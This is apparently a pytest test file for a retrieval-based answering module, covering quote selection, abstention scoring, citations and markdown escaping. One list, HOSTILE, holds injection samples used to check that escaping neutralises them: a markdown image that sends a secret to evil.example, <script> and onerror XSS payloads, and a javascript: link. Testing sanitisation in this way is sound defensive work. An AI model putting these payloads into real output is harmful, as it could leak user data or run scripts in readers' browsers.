from __future__ import annotations

import json
from collections.abc import Sequence
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from agents.answering.abstention import answerability, nearest
from agents.answering.answer_type import asks_how, asks_number, instructs, offers_number
from agents.answering.compose import NOT_FOUND, abstention_markdown, citations, evidence_markdown
from agents.answering.markdown import escape
from agents.answering.quotes import Lookup, Quote, select_quotes, select_report_quotes
from agents.answering.ranking import Match
from agents.answering.rows import column_names, is_named
from agents.answering.settings import AnsweringSettings
from agents.answering.units import units
from retrieval.embedding import HashingEmbedder, build_embedder
from retrieval.passages import Hit, Passage
from retrieval.settings import RetrievalSettings

encode = HashingEmbedder().encode


def passage(text: str, *, name: str = "leave.md", heading: str = "", page: int | None = None) -> Passage:
    return Passage(
        id=f"{name}/{heading}/{text[:20]}",
        document_id=name,
        document=name,
        title=name,
        page=page,
        heading=heading,
        text=text,
        position=0,
    )


def hits(*passages: Passage) -> list[Hit]:
    return [Hit(passage=each, score=1 - i / 10, dense=0.5) for i, each in enumerate(passages)]


def texts(quotes: Sequence[Quote]) -> list[str]:
    return [quote.text for quote in quotes]


ANNUAL = passage(
    "Leave is requested in the portal. Up to 5 unused days may be carried over. They expire on 31 March.",
    heading="Leave > Annual leave",
    page=3,
)
TRAVEL = passage("Flights need approval. Trains are booked in second class.", name="travel.md", heading="Travel")


def test_the_best_sentence_comes_first_and_is_verbatim() -> None:
    quotes = select_quotes("How many unused days may be carried over?", hits(TRAVEL, ANNUAL), encode)
    best = quotes[0]
    assert "Up to 5 unused days may be carried over." in best.text
    assert best.number == 1
    assert all(q.hit.passage.text[q.start : q.end] == q.text for q in quotes)


def test_neighbours_are_one_quote_and_one_source_has_one_number() -> None:
    split_up = passage("Unused days expire. The canteen opens at noon. Unused days may be carried over. Days count.")
    quotes = select_quotes("unused days", hits(split_up), encode, AnsweringSettings(score_gap=9, max_sentences=3))
    assert {quote.number for quote in quotes} == {1}
    assert "Unused days may be carried over. Days count." in texts(quotes)


def test_a_pronoun_brings_its_sentence_along() -> None:
    source = passage("Vouchers come by mail. They expire in March. The canteen is closed on Sundays.")
    quotes = select_quotes("When do they expire in March?", hits(source), encode, AnsweringSettings(score_gap=0.1))
    assert texts(quotes) == ["Vouchers come by mail. They expire in March."]


def test_repeats_of_a_sentence_are_quoted_once() -> None:
    copy = passage("Up to 5 unused days may be carried over.", name="copy.md")
    quotes = select_quotes("unused days carried over", hits(ANNUAL, copy), encode)
    assert " ".join(texts(quotes)).count("carried over") == 1


@pytest.mark.parametrize("sentences", [1, 2, 3])
def test_never_more_than_the_settings_allow(sentences: int) -> None:
    long = passage(" ".join(f"Unused days of kind {word * 40} count." for word in "abcdef"))
    settings = AnsweringSettings(max_sentences=sentences, max_chars=150, score_gap=9)
    quotes = select_quotes("unused days", hits(long), encode, settings)
    assert 1 <= sum(quote.text.count("count.") for quote in quotes) <= sentences
    assert sum(len(quote.text) for quote in quotes) <= 150 + 2


def test_a_report_is_quoted_from_four_times_as_many_places_once_a_page() -> None:
    def page(number: int, text: str) -> Passage:
        return passage(text, name="report.pdf", page=number)

    report = hits(
        page(1, "Debt rose to 5 million. The canteen is open. Debt of the plant in Turin is old."),
        page(1, "Debt is told in notes by the board."),
        *(page(number, f"Debt of branch {number} fell, as {word} wrote.") for number, word in enumerate("stuvw", 2)),
    )
    settings = AnsweringSettings(max_sentences=1, score_gap=9)
    quotes = select_report_quotes([Lookup("How has debt changed?", report)], encode, settings)
    pages = [quote.hit.passage.page for quote in quotes]
    assert len(pages) == len(set(pages)) == 4
    assert len(select_quotes("How has debt changed?", report, encode, settings)) == 1


def test_a_report_without_pages_is_quoted_once_a_passage() -> None:
    first = passage("Debt rose. Debt is old. The canteen is open. Debt of the plant stays.", name="report.md")
    second = passage("Debt fell in spring.", name="report.md")
    settings = AnsweringSettings(score_gap=9)
    quotes = select_report_quotes([Lookup("How has debt changed?", hits(first, second))], encode, settings)
    sources = [quote.hit.passage.id for quote in quotes]
    assert len(sources) == len(set(sources)) == 2


def test_the_parts_of_a_question_about_a_report_are_quoted_in_turn() -> None:
    debt = hits(
        *(passage(f"Debt of the branch in {town} fell.", name="report.md") for town in ("Turin", "Lyon", "Graz"))
    )
    wages = hits(*(passage(f"Wages in {town} rose.", name="report.md") for town in ("Porto", "Gent")))
    settings = AnsweringSettings(max_sentences=1, score_gap=9)
    whole = Lookup("How does debt relate to wages?", debt)
    assert "Wages" not in " ".join(texts(select_report_quotes([whole], encode, settings)))
    both = select_report_quotes([whole, Lookup("debt", debt), Lookup("wages", wages)], encode, settings)
    assert [sum(word in text for text in texts(both)) for word in ("Debt", "Wages")] == [2, 2]


def test_a_row_takes_its_turn_behind_the_best_of_the_text() -> None:
    told = hits(
        *(passage(f"Stock of {town} fell short of plans.", name="report.md") for town in ("Lyon", "Graz", "Gent"))
    )
    sheet = hits(passage("Assets\n\nCash | 12\nStock | 4,268 | 3,742\nLand | 7", name="report.md"))
    settings = AnsweringSettings(max_sentences=1, score_gap=9)
    text, table = Lookup("How has stock changed?", told), Lookup("How has stock changed?", sheet, in_tables=True)
    shown = texts(select_report_quotes([text, table], encode, settings))
    assert "Stock | 4,268 | 3,742" in shown
    assert not any("Cash" in quote or "Land" in quote for quote in shown)
    assert sum("fell short" in quote for quote in shown) == 3


@pytest.mark.parametrize(
    ("row", "named"),
    [
        ("Inventories | 4,268 | 3,742", True),
        ("| Total inventories | $ 12,831", True),
        ("Inventories\t4,268", True),
        ("Inventories and land | 4,268", False),
        ("Inventories | up | down", False),
        ("Total | 4,268", False),
        ("Inventories of 4,268 in all", False),
    ],
)
def test_a_row_is_named_by_words_of_the_question_alone(row: str, named: bool) -> None:
    assert is_named(row, "What do the inventory levels suggest?") == named


def test_a_row_is_shown_below_the_names_of_its_columns() -> None:
    sheet = "In millions\n\n| June 30 | March 31\nAssets\nCash | 12 | 10\nStock | 4,268 | 3,742\n\nLand | 7"
    table = Lookup("How has stock changed?", hits(passage(sheet, name="report.md")), in_tables=True)
    quotes = select_report_quotes([table], encode, AnsweringSettings())
    assert texts(quotes) == ["Stock | 4,268 | 3,742"]
    assert evidence_markdown(quotes) == "> | June 30 | March 31  \n> Stock | 4,268 | 3,742 [1]"
    assert column_names(sheet, sheet.index("Land")) == column_names(sheet, sheet.index("Assets")) == ""


def test_text_without_sentences_is_cut_to_size() -> None:
    pieces = units(passage("days " * 300), 200)
    assert all(len(piece.text) <= 200 for piece in pieces)
    assert "".join("".join(piece.text for piece in pieces).split()) == "days" * 300


def test_a_question_in_the_text_is_quoted_with_its_answer_and_a_list_with_its_lead_in() -> None:
    faq = passage(
        "How do I reset my password?\nOpen the sign-in page.\n\nBring along:\n- a badge\n- a phone\n\nBye now."
    )
    assert [piece.text for piece in units(faq, 900)] == [
        "How do I reset my password?\nOpen the sign-in page.",
        "Bring along:\n- a badge\n- a phone",
        "Bye now.",
    ]


def test_code_is_quoted_with_what_leads_in_to_it() -> None:
    guide = passage("Sections look like this:\n\n[arms]\nweight = 1\n\nname = short\n\nAn arm may set more.")
    assert [piece.text for piece in units(guide, 900)] == [
        "Sections look like this:\n\n[arms]\nweight = 1\n\nname = short",
        "An arm may set more.",
    ]


def test_a_lead_in_to_nothing_is_not_quoted() -> None:
    assert units(passage("Web pages and sitemaps:"), 900) == []
    [piece] = units(passage("Fees:\n\n# Visitors\n\nVisitors pay nothing at all."), 900)
    assert (piece.text, piece.heading) == ("Visitors pay nothing at all.", "Visitors")


def test_two_words_match_the_one_that_joins_them() -> None:
    source = passage("The rollback command restores it. The command to roll dough restores nothing.")
    quotes = select_quotes("How is a release rolled, roll back?", hits(source), encode, AnsweringSettings(score_gap=9))
    assert quotes[0].text.startswith("The rollback command")


@pytest.mark.parametrize(
    ("question", "text", "expected"),
    [
        ("How do I leave?", "Press Esc.", True),
        ("how can we leave", "To leave at once, press Esc.", True),
        ("How to leave?", "parley leave --now ends it.", True),
        ("Which command ends it?", "parley leave NAME ends it.", True),
        ("How do I leave?", "You can leave at any time.", True),
        ("How do I leave?", "Leaving was made hard by design.", False),
    ],
)
def test_what_to_do_is_told_from_what_is_so(question: str, text: str, expected: bool) -> None:
    assert asks_how(question)
    assert instructs(text) is expected


def test_a_question_about_what_to_do_is_answered_by_an_instruction() -> None:
    design = passage("A release can be undone since old releases stay.", name="design.md")
    guide = passage("Open the list of releases and undo the release.", name="guide.md")
    assert not asks_how("Why can a release be undone?")
    assert select_quotes("How do I undo a release?", hits(design, guide), encode)[0].hit.passage.document == "guide.md"


def test_a_table_row_is_quoted_alone_and_a_heading_lends_its_words() -> None:
    table = passage("Limits\nItem: Lunch | Limit: 18 EUR\nItem: Dinner | Limit: 30 EUR", name="expenses.md")
    quotes = select_quotes("dinner limits", hits(table), encode, AnsweringSettings(score_gap=0.1))
    assert texts(quotes) == ["Item: Dinner | Limit: 30 EUR"]
    assert quotes[0].match.coverage == pytest.approx(1.0)


@pytest.mark.parametrize("found", [[], hits(passage("")), hits(passage("..."))])
def test_nothing_found_is_nothing_quoted(found: list[Hit]) -> None:
    quotes = select_quotes("anything?", found, encode)
    assert quotes == []
    assert answerability(quotes) == 0
    assert evidence_markdown(quotes) == ""
    assert abstention_markdown(quotes).startswith(NOT_FOUND)


def test_answerability_falls_with_what_is_missing() -> None:
    def likelihood(question: str) -> float:
        return answerability(select_quotes(question, hits(ANNUAL, TRAVEL), encode))

    asked = likelihood("How many unused days may be carried over?")
    assert asked > 0.5
    assert likelihood("Who won the football cup?") < 0.05
    assert likelihood("How many unused parking permits may be carried upstairs?") < asked


def test_names_and_numbers_that_the_passage_lacks_and_a_rival_lower_the_answerability() -> None:
    def likelihood(question: str, *found: Hit) -> float:
        return answerability(select_quotes(question, found, encode))

    [own] = hits(passage("Staff in Turin get 25 days of leave.", name="Leave"))
    rival = own.model_copy(update={"passage": TRAVEL, "dense": 0.7})
    asked = likelihood("How many days of leave do staff in Turin get?", own)
    assert likelihood("How many days of leave do staff in Milan get?", own) < asked
    assert likelihood("How many days of leave do staff in Turin get in 2019?", own) < asked
    assert likelihood("How many days of leave do staff in Turin get?", own, rival) < asked


@pytest.mark.parametrize(
    ("question", "text", "expected"),
    [
        ("How many days?", "Five days.", True),
        ("When is it due in March?", "It is due in March.", False),
        ("When is it due?", "Every Monday.", True),
        ("How long is the leave of 2023?", "The leave of 2023 is long.", False),
    ],
)
def test_numbers_and_dates_that_are_news(question: str, text: str, expected: bool) -> None:
    assert asks_number(question)
    assert offers_number(text, question) is expected


def test_citations_carry_their_quotes() -> None:
    quotes = select_quotes("unused days carried over flights approval", hits(ANNUAL, TRAVEL), encode)
    cited = citations(quotes)
    assert [each.number for each in cited] == list(range(1, len(cited) + 1))
    assert all(quote in each.passage.text for each in cited for quote in each.quotes)
    assert sum(len(each.quotes) for each in cited) == len(quotes)


def test_the_abstention_names_the_nearest_sources() -> None:
    markdown = abstention_markdown(select_quotes("unused days", hits(ANNUAL), encode))
    assert markdown.startswith(NOT_FOUND)
    assert "leave.md, page 3, Leave > Annual leave" in markdown
    assert "[1]" in markdown


def test_only_what_is_near_is_shown_as_near() -> None:
    quotes = select_quotes("Who won the football cup?", hits(TRAVEL), encode)
    assert quotes
    assert nearest(quotes, AnsweringSettings(nearest_from=0.9)) == []
    assert nearest(quotes, AnsweringSettings(nearest_from=-1)) == quotes


def test_the_nearest_sources_are_numbered_from_one() -> None:
    found = hits(passage("Leave is five days.", name="a.md"), passage("Parking costs ten euros.", name="b.md"))
    first, second = (
        Quote(
            number=number,
            hit=hit,
            start=0,
            end=5,
            text=hit.passage.text[:5],
            score=1.0,
            match=Match(similarity=similarity, coverage=1, passage_coverage=1, lacks_number=False),
        )
        for number, hit, similarity in [(1, found[0], 0.1), (2, found[1], 0.8)]
    )
    assert [quote.number for quote in nearest([first, second, second], AnsweringSettings(nearest_from=0.5))] == [1, 1]


HOSTILE = [
    "![x](http://evil.example/?q=secret)",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))",
    "[a]: http://evil.example\n\n[a]",
    "<http://evil.example> &lt;b&gt; **bold** _x_ `code` ~~gone~~",
    "# Heading\n===\n---\n> quoted\n    indented",
    "```\nfence\n```\n\\[x](y)",
    "see [1] and [2](http://evil.example)",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_stays_text(text: str) -> None:
    """Rendered by a real parser with HTML allowed, there is nothing but paragraphs and the very characters."""
    parser = MarkdownIt("commonmark", {"html": True}).enable(["strikethrough", "table"])
    tokens = parser.parse(escape(text))
    kinds = {child.type for token in tokens for child in [token, *(token.children or [])]}
    shown = "".join(child.content for token in tokens for child in token.children or [] if child.type == "text")
    assert kinds <= {"paragraph_open", "paragraph_close", "inline", "text", "softbreak", "text_special"}
    assert "".join(shown.split()) == "".join(text.split())


def test_hostile_passages_are_harmless_in_every_output() -> None:
    evil = passage(HOSTILE[0] + " Days.", name="![n](http://evil.example)", heading="<b>[h](x:y)</b>")
    quotes = select_quotes("days", hits(evil), encode)
    html = MarkdownIt("commonmark", {"html": True}).render(evidence_markdown(quotes) + abstention_markdown(quotes))
    assert not any(tag in html for tag in ("<img", "<a ", "<b>", "<script"))


def test_direction_marks_and_control_signs_are_dropped() -> None:
    assert escape("a\u202eb\u200bc\x07d") == "abcd"


@pytest.mark.model
def test_answers_stand_in_the_quotes_of_real_questions(shared_data: Path) -> None:
    """Every sixteenth XQuAD article, with the paragraphs of its article to choose from."""
    articles = json.loads((shared_data / "xquad" / "xquad.en.json").read_text("utf-8"))["data"][::16]
    embedder = build_embedder(RetrievalSettings())
    contained = answerable = refused = asked = 0
    for article in articles:
        paragraphs = [passage(p["context"], name=f"p{i}") for i, p in enumerate(article["paragraphs"])]
        for home, paragraph in zip(paragraphs, article["paragraphs"], strict=True):
            others = [each for each in paragraphs if each is not home]
            for qa in paragraph["qas"][:2]:
                asked += 1
                quotes = select_quotes(qa["question"], hits(others[0], home, *others[1:3]), embedder.encode)
                contained += any(qa["answers"][0]["text"] in quote.text for quote in quotes)
                answerable += answerability(quotes) >= AnsweringSettings().abstain_below
                missing = select_quotes(qa["question"], hits(*others[:4]), embedder.encode)
                refused += answerability(missing) < AnsweringSettings().abstain_below
    assert contained >= 0.88 * asked
    assert answerable >= 0.9 * asked
    assert refused >= 0.5 * asked
